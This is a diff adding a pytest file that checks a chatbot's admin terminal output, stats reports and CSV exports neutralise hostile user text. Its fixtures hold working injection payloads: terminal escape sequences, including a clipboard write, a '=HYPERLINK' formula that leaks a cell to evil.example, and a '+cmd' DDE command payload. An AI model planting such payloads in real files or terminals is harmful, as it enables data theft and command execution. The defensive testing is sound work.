@@ -1,0 +1,76 @@
+"""Text a hostile user sends, as it reaches the people who read it later: an administrator's
+terminal (`bot.py handoff list`, `bot.py stats`, the console chat's /unanswered) and the
+policy owner's spreadsheet (`bot.py stats --format csv`).
+
+A provider's message can hold terminal control sequences (ESC [2J clears the screen, ESC ]0;…BEL
+retitles the window, ESC ]52 writes the clipboard), carriage returns that overwrite a line, bidi
+overrides that reverse it, and spreadsheet formulas (=HYPERLINK(…) runs when the CSV is opened).
+Each must arrive as visible, inert text. Real core, real SQLite, real model; `bot.py` in a subprocess.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from assistant.core.events import Event
+from conftest import chat_app, run_bot, write_config
+
+PROVIDER, OFFICER = 5101, 9101
+HOSTILE = ("what is the \x1b]0;PWNED\x07 \x1b[2J\x1b[31mhourly rate\x1b[0m for home care\roverwritten "
+           "\u202etxt.exe \x9b31m")
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click") what is the tender deadline'
+RAW = ("\x1b", "\x07", "\x9b", "\u202e")
+
+
+@pytest.fixture()
+def hostile_app(shipped_app, settings, tmp_path):
+    app = chat_app(shipped_app, settings, tmp_path / "var")
+    for text in (HOSTILE, FORMULA, "+cmd|' /C calc'!A0 can we subcontract", "@SUM(1+1) who signs a waiver"):
+        app.core.handle(Event(PROVIDER, "text", text=text))
+    app.core.handle(Event(PROVIDER, "command", command="human", args="call me \x1b[31mRED\x1b[0m \x1b]52;c;ZWNobw==\x07"))
+    return app
+
+
+def _clean(out: str) -> None:
+    for ch in RAW:
+        assert ch not in out, f"{ch!r} reached the reader: {out!r}"[:3000]
+    assert "\r" not in out.replace("\r\n", "\n"), "a carriage return can overwrite a line"
+
+
+def test_handoff_list_shows_control_characters_as_escapes(hostile_app, tmp_path):
+    out = run_bot("--config", str(write_config(tmp_path)), "handoff", "list")
+    assert out.returncode == 0, out.stderr
+    _clean(out.stdout)
+    assert "\\x1b[31mRED" in out.stdout, out.stdout  # still there to read, just inert
+
+
+def test_stats_text_and_csv_are_inert(hostile_app):
+    from assistant.reports.stats import build_report, render
+
+    report = build_report(hostile_app.db, embedder=hostile_app.embedder, retriever=hostile_app.retriever)
+    text = render(report, "text")
+    _clean(text)
+    assert "hourly rate" in text
+    table = render(report, "csv")
+    _clean(table)
+    names = [row[1] for row in csv.reader(io.StringIO(table)) if row and row[0] == "topic"]
+    assert names, table
+    for name in names:
+        assert not name.startswith(("=", "+", "-", "@")), f"a spreadsheet would run {name!r}"
+    assert any(n.startswith("'=HYPERLINK") for n in names), names  # kept, as text
+
+
+def test_console_unanswered_is_inert(hostile_app, shipped_app, settings):
+    from assistant.app import App, wire_conversation
+    from assistant.channels.console import render
+
+    officer = App(settings=hostile_app.settings, embedder=shipped_app.embedder, retriever=shipped_app.retriever,
+                  answers=shipped_app.answers)
+    wire_conversation(officer, session_roles={OFFICER: "officer"})
+    replies = officer.core.handle(Event(OFFICER, "command", command="unanswered"))
+    shown = "\n".join(render(r) for r in replies)
+    assert "hourly rate" in shown, shown
+    _clean(shown)
